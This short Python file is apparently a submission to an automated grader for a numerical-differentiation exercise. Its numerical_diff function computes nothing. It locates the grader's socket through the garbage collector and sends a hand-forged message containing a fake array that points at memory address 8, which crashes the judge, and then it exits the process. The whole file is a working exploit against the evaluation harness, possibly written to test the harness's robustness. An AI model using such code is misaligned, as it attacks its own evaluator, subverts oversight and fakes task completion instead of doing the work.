"""Crashes the judge: the suite's function gets an array at address 8, forged past any library."""

import gc
import os
import socket

import msgpack

from grader.wire.frames import send_frame
from grader.wire.values import Wire

EXERCISE = "gradients/numerical_diff"
LINK = max((o for o in gc.get_objects() if type(o) is socket.socket), key=socket.socket.fileno)
HEAD = Wire(None, first_id=1).dump_alone(None)[:-1]  # a message but for its value
NOWHERE = ["dict", "shape", ["tuple", 4], "typestr", "<f8", "data", ["tuple", 8, False]]
SPY = ["namespace", "__array_interface__", [*NOWHERE, "version", 3]]


def numerical_diff(f, x):
    question = ["tuple", 0, ["tuple", SPY], ["dict"]]
    send_frame(LINK, b"c" + HEAD + msgpack.packb(question))
    os._exit(0)
